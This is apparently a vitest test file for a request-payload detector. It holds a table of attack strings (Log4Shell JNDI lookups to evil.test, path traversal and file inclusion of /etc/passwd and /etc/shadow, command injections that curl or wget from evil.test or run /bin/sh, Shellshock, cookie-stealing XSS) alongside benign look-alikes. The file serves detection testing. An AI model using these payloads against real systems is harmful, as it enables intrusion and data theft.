import { expect, test } from 'vitest'
import type { PayloadCheck, Place } from '../payload.ts'
import { unwrap } from '../unwrap.ts'
import { command } from './command.ts'
import { jndi } from './jndi.ts'
import { xss } from './markup.ts'
import { lfi, rfi, traversal } from './traversal.ts'

/** From here on a policy opens an incident about a field nobody knows. */
const CLEAR = 7

function odds(check: PayloadCheck, value: string, place: Place = 'query'): number {
  return check.check(unwrap(value, false), { place, name: 'x', key: 'x', value })[0]?.logOdds ?? 0
}

test.each([
  [jndi, '${jndi:ldap://evil.test/a}'],
  [jndi, '${${lower:j}ndi:${lower:l}dap://evil.test/a}'],
  [jndi, '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.test/a}'],
  [jndi, '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.test/a}'],
  [traversal, '../../../../etc/passwd'],
  [traversal, '..%2f..%2f..%2fetc%2fpasswd'],
  [traversal, '..%252f..%252fetc/passwd'],
  [traversal, '..\\..\\windows\\win.ini'],
  [traversal, '/static/..%c0%af..%c0%afetc/passwd'],
  [traversal, '....//....//etc/passwd'],
  [traversal, '/app/..;/..;/manager/html/..;/WEB-INF/web.xml'],
  [lfi, '/etc/passwd'],
  [lfi, 'php://filter/convert.base64-encode/resource=index.php'],
  [lfi, 'file:///etc/shadow'],
  [lfi, 'C:\\Windows\\win.ini'],
  [lfi, '/proc/self/environ'],
  [rfi, 'http://evil.test/shell.txt?'],
  [rfi, 'https://evil.test/c99.php'],
  [rfi, '\\\\evil.test\\share\\x'],
  [command, '127.0.0.1; cat /etc/passwd'],
  [command, '127.0.0.1|whoami'],
  [command, 'a && ping -c 10 127.0.0.1'],
  [command, '$(curl http://evil.test/x)'],
  [command, '`id`'],
  [command, ";c'a't${IFS}/etc/passwd"],
  [command, 'x;/bin/sh -c id'],
  [command, '() { :;}; /bin/bash -c "id"'],
  [command, 'a\nwget http://evil.test/x'],
  [command, '& ping -n 5 127.0.0.1 &'],
  [command, '|| sleep 10 ||'],
  [xss, '<script>alert(1)</script>'],
  [xss, '<ScRiPt src=//evil.test>'],
  [xss, '"><img src=x onerror=alert(1)>'],
  [xss, '<svg/onload=alert(1)>'],
  [xss, 'javascript:alert(document.cookie)'],
  [xss, "';alert(1)//"],
  [xss, '"-alert(1)-"'],
  [xss, '%3Csvg%20onload%3Dalert%281%29%3E'],
  [xss, '&lt;script&gt;alert(1)&lt;/script&gt;'],
  [xss, '\\u003cscript\\u003ealert(1)'],
  [xss, '<iframe src="javascript:alert(1)">'],
  [xss, '" autofocus onfocus=alert(1) x="'],
  [xss, '<details open ontoggle=confirm`1`>'],
])('%# attack: %s %s', (check, value) => {
  expect(odds(check, value)).toBeGreaterThanOrEqual(CLEAR)
})

test.each([
  [jndi, 'price is ${amount}'],
  [jndi, '${user.name}'],
  [traversal, 'see ../README.md for more'],
  [traversal, 'wait... what/..?'],
  [traversal, './a/b'],
  [lfi, 'the etc/ folder of the house'],
  [lfi, 'C:\\Users\\anna\\Pictures\\cat.png'],
  [rfi, 'https://example.com/products/42?color=red'],
  [rfi, 'https://cdn.example.com/a.png'],
  [command, 'fish; chips & peas'],
  [command, 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0'],
  [command, 'a | b | c'],
  [command, 'Find more; sort by date; type to search'],
  [command, 'Smith & Sons'],
  [command, 'use `id` as the key'],
  [command, 'text/html;q=0.8'],
  [command, 'R&D; test it'],
  [command, 'one\ndate: tomorrow\nhost: me'],
  [xss, 'a < b and c > d'],
  [xss, 'I <3 you'],
  [xss, 'JavaScript: The Good Parts'],
  [xss, '<p>Hello <b>world</b></p>'],
  [xss, 'how to use onclick = in html?'],
  [xss, 'if (a<b) alert the team'],
  [xss, 'x="1" y="2"'],
])('%# benign: %s %s', (check, value) => {
  expect(odds(check, value)).toBeLessThan(CLEAR)
})
